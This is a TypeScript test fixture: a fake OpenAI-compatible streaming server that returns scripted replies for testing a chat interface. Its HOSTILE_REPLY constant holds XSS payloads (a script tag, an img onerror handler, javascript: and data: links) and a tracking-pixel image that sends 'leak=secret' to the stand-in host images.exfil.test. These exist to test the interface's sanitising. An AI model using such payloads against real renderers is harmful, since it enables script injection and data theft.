import { type IncomingMessage, type Server, type ServerResponse, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * A loopback OpenAI-compatible upstream speaking streaming Chat Completions, with replies scripted by
 * markers in the last user message. Deterministic: the same prompt gives the same reply, except that
 * a repeated prompt says which attempt it is (so Regenerate visibly changes the answer).
 */

interface ChatMessage {
  role: string;
  content: string | { type: string; text?: string }[];
}

interface Script {
  tokens: string[];
  delayMs: number;
  /** HTTP status to fail with instead of streaming. */
  failStatus?: number;
  /** With failStatus, the error's message (else "overloaded"). */
  failMessage?: string;
  /** Stop sending (but keep the socket open) after this many tokens. */
  hangAfter?: number;
  /** Pause after this many tokens until the test releases `holdKey` (see `HELD_TOKENS`). */
  holdAfter?: number;
  holdKey?: string;
}

/**
 * `[held:KEY]` in a prompt: the reply is numberedWords(60) (with `[essay]` too, the essay), paused after its first
 * HELD_TOKENS words until the test posts to `/__control/release/KEY`. A test that must act while an answer runs (reload, switch, stop)
 * does not race a timer on a loaded machine: a paced reply could end before a slow reload came back.
 */
export const HELD_TOKENS = 8;
/** A held reply goes on by itself after this long, so a test that forgot to release fails on its text, not hangs. */
const HOLD_LIMIT_MS = 30_000;

export const FILE_MARKER = 'PARLEY-FILE-MARKER';
export const IMAGE_HOST = 'images.exfil.test';

/** "w01 w02 … wNN": every word unique, so a test can check each arrived exactly once. */
export function numberedWords(count: number): string {
  return Array.from({ length: count }, (_, i) => `w${String(i + 1).padStart(2, '0')}`).join(' ');
}

export const HOSTILE_REPLY = [
  'Here is some **bold** text.',
  '',
  '<script>alert("script-xss")</script>',
  '',
  '<img src="x" onerror="alert(\'img-xss\')">',
  '',
  '[click me](javascript:alert(\'link-xss\'))',
  '',
  `![tracking pixel](http://${IMAGE_HOST}/pixel.png?leak=secret)`,
  '',
  '[data link](data:text/html,<script>alert(1)</script>)',
  '',
  'End of hostile reply.',
].join('\n');

export const MATH_REPLY = [
  'Euler: $e^{i\\pi} + 1 = 0$, and Pythagoras: \\(a^2 + b^2 = c^2\\).',
  '',
  '\\[',
  '\\int_0^1 x^2\\,dx = \\frac{1}{3}',
  '\\]',
  '',
  'It costs $5 and $10.',
].join('\n');

export const CODE_REPLY = [
  'Here is a function:',
  '',
  '```python',
  'def greet(name):',
  '    return f"Hello, {name}!"',
  '```',
  '',
  'And a list:',
  '',
  '- one',
  '- two',
].join('\n');

/** A table far wider than an answer (twelve columns of long words): it scrolls sideways in its box. */
export const WIDE_TABLE_REPLY = [
  'Here is the comparison:',
  '',
  `| ${Array.from({ length: 12 }, (_, i) => `Measurement${i + 1}`).join(' | ')} |`,
  `|${'---|'.repeat(12)}`,
  `| ${Array.from({ length: 12 }, (_, i) => `Value${i + 1}forthisrow`).join(' | ')} |`,
  '',
  'That is all.',
].join('\n');

/** An answer in Arabic and Hebrew, with English between: each block goes the way of its own text. */
export const RTL_REPLY = [
  '## عنوان الإجابة',
  '',
  'هذه فقرة باللغة العربية تُقرأ من اليمين إلى اليسار.',
  '',
  'An English paragraph in between.',
  '',
  '- פריט ראשון',
  '- פריט שני',
  '',
  '> اقتباس قصير',
  '',
  '| اللغة | السنة |',
  '|---|---|',
  '| بايثون | 1991 |',
  '',
  '```js',
  'const x = 1;',
  '```',
].join('\n');

/** A long answer: ten chapters, each a heading, nine paragraphs and a code block (110 top-level blocks). */
const chapter = (n: number): string => [
  `## Chapter ${n}`,
  ...Array.from({ length: 9 }, (_, p) => `Chapter ${n}, paragraph ${p + 1} goes on for a while, long enough to fill a line or two of the page.`),
  ['```ts', `const chapter = ${n};`, '```'].join('\n'),
].join('\n\n');
/** Forty paragraphs with a code block long enough (about 3,000 characters) to be highlighted in the background. */
const LONG_CODE_REPLY = [
  ...Array.from({ length: 20 }, (_, i) => `Paragraph ${i + 1} of a long answer.`),
  ['```ts', ...Array.from({ length: 120 }, (_, i) => `const line${i} = compute(${i});`), '```'].join('\n'),
  ...Array.from({ length: 20 }, (_, i) => `Paragraph ${i + 21} of a long answer.`),
].join('\n\n');
/** `[essay]`: forty short paragraphs, paced (about 7 s in all), for an answer that outgrows the view while it streams. */
const ESSAY_REPLY = Array.from({ length: 40 }, (_, i) => `Section ${i + 1} keeps going for a while.`).join('\n\n');
export const CHAPTERS_REPLY = Array.from({ length: 10 }, (_, i) => chapter(i + 1)).join('\n\n');

function textOf(message: ChatMessage | undefined): string {
  if (!message) return '';
  if (typeof message.content === 'string') return message.content;
  return message.content.map((part) => part.text ?? '').join('');
}

/** Splits a reply into token-like pieces (words with their whitespace). */
function tokensOf(text: string): string[] {
  return text.match(/\s*\S+\s?|\s+/g) ?? [text];
}

export class FakeOpenAi {
  private server: Server | null = null;
  private readonly attempts = new Map<string, number>();
  private readonly released = new Set<string>();
  private readonly holding = new Map<string, () => void>();

  script(messages: ChatMessage[]): Script {
    const lastUser = [...messages].reverse().find((m) => m.role === 'user');
    const prompt = textOf(lastUser);
    const question = prompt.split('\n\n<file')[0] ?? prompt;
    const attempt = (this.attempts.get(question) ?? 0) + 1;
    this.attempts.set(question, attempt);
    if (prompt.includes('[fail-once]') && attempt === 1) return { tokens: [], delayMs: 0, failStatus: 500 };
    if (prompt.includes('[fail]')) return { tokens: [], delayMs: 0, failStatus: 500 };
    // As vLLM or OpenAI refuse a prompt over the model's context (its tokenizer counting more than Parley's).
    if (prompt.includes('[over-context]')) {
      return { tokens: [], delayMs: 0, failStatus: 400, failMessage: 'This model\'s maximum context length is 8192 tokens. However, you requested 9013 tokens.' };
    }
    if (prompt.includes('[quick-count]')) return { tokens: tokensOf(numberedWords(60)), delayMs: 5 };
    const held = /\[held:([\w-]+)\]/.exec(prompt);
    if (held && prompt.includes('[essay]')) return { tokens: tokensOf(ESSAY_REPLY), delayMs: 25, holdAfter: HELD_TOKENS, holdKey: held[1] };
    if (held) return { tokens: tokensOf(numberedWords(60)), delayMs: 20, holdAfter: HELD_TOKENS, holdKey: held[1] };
    if (prompt.includes('[essay]')) return { tokens: tokensOf(ESSAY_REPLY), delayMs: 25 };
    if (prompt.includes('[long-code]')) return { tokens: tokensOf(LONG_CODE_REPLY), delayMs: 1 };
    if (prompt.includes('[long]')) return { tokens: tokensOf(Array.from({ length: 40 }, (_, i) => `Paragraph ${i + 1} of a long answer.`).join('\n\n')), delayMs: 5 };
    if (prompt.includes('[chapters]')) return { tokens: tokensOf(CHAPTERS_REPLY), delayMs: 1 };
    if (prompt.includes('[xss]')) return { tokens: tokensOf(HOSTILE_REPLY), delayMs: 5 };
    if (prompt.includes('[rtl]')) return { tokens: tokensOf(RTL_REPLY), delayMs: 5 };
    if (prompt.includes('[code]')) return { tokens: tokensOf(CODE_REPLY), delayMs: 10 };
    if (prompt.includes('[wide-table]')) return { tokens: tokensOf(WIDE_TABLE_REPLY), delayMs: 5 };
    if (prompt.includes('[math]')) return { tokens: tokensOf(MATH_REPLY), delayMs: 5 };
    if (prompt.includes('[file]')) {
      const all = messages.map(textOf).join('\n');
      const reply = all.includes(FILE_MARKER) ? `The file says ${FILE_MARKER}.` : 'No file content reached me.';
      return { tokens: tokensOf(reply), delayMs: 10 };
    }
    const suffix = attempt > 1 ? ` (attempt ${attempt})` : '';
    return { tokens: tokensOf(`Hello! You said: ${question.slice(0, 200)}${suffix}`), delayMs: 15 };
  }

  async start(port: number): Promise<number> {
    this.server = createServer((req, res) => void this.handle(req, res));
    await new Promise<void>((resolve, reject) => {
      this.server?.once('error', reject);
      this.server?.listen(port, '127.0.0.1', () => resolve());
    });
    return (this.server.address() as AddressInfo).port;
  }

  async stop(): Promise<void> {
    const server = this.server;
    if (!server) return;
    for (const release of this.holding.values()) release();
    server.closeAllConnections();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  }

  /** Lets a held reply go on; a release that comes before the reply reaches its pause is kept for it. */
  release(key: string): void {
    this.released.add(key);
    this.holding.get(key)?.();
  }

  private async hold(key: string): Promise<void> {
    if (this.released.has(key)) return;
    await new Promise<void>((resolve) => {
      const timer = setTimeout(resolve, HOLD_LIMIT_MS);
      this.holding.set(key, () => {
        clearTimeout(timer);
        resolve();
      });
    });
    this.holding.delete(key);
  }

  private async handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
    const control = /^\/__control\/release\/([\w-]+)$/.exec(req.url ?? '');
    if (req.method === 'POST' && control?.[1]) {
      this.release(control[1]);
      res.writeHead(204).end();
      return;
    }
    if (req.method === 'GET' && req.url?.endsWith('/models')) {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ object: 'list', data: [{ id: 'fake-model', object: 'model' }] }));
      return;
    }
    if (req.method !== 'POST' || !req.url?.endsWith('/chat/completions')) {
      res.writeHead(404, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ error: { message: 'not found', type: 'invalid_request_error' } }));
      return;
    }
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    const body = JSON.parse(Buffer.concat(chunks).toString('utf8')) as { model?: string; messages?: ChatMessage[]; stream?: boolean };
    const script = this.script(body.messages ?? []);
    if (script.failStatus) {
      res.writeHead(script.failStatus, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ error: { message: script.failMessage ?? 'The upstream model is overloaded (scripted failure).', type: script.failStatus < 500 ? 'invalid_request_error' : 'server_error' } }));
      return;
    }
    const id = `chatcmpl-${Date.now()}`;
    const model = body.model ?? 'fake-model';
    const created = Math.floor(Date.now() / 1000);
    const chunk = (delta: Record<string, unknown>, finish: string | null, extra: Record<string, unknown> = {}): string =>
      `data: ${JSON.stringify({ id, object: 'chat.completion.chunk', created, model, choices: [{ index: 0, delta, finish_reason: finish }], ...extra })}\n\n`;
    res.writeHead(200, { 'Content-Type': 'text/event-stream', 'Cache-Control': 'no-cache', Connection: 'keep-alive' });
    let isClosed = false;
    res.on('close', () => (isClosed = true));
    res.write(chunk({ role: 'assistant', content: '' }, null));
    for (const [index, token] of script.tokens.entries()) {
      if (isClosed) return;
      if (script.hangAfter !== undefined && index >= script.hangAfter) return;
      if (script.holdKey !== undefined && index === script.holdAfter) await this.hold(script.holdKey);
      if (script.delayMs > 0) await new Promise((resolve) => setTimeout(resolve, script.delayMs));
      if (isClosed) return;
      res.write(chunk({ content: token }, null));
    }
    const completion = script.tokens.length;
    res.write(chunk({}, 'stop', { usage: { prompt_tokens: 10, completion_tokens: completion, total_tokens: 10 + completion } }));
    res.write('data: [DONE]\n\n');
    res.end();
  }
}
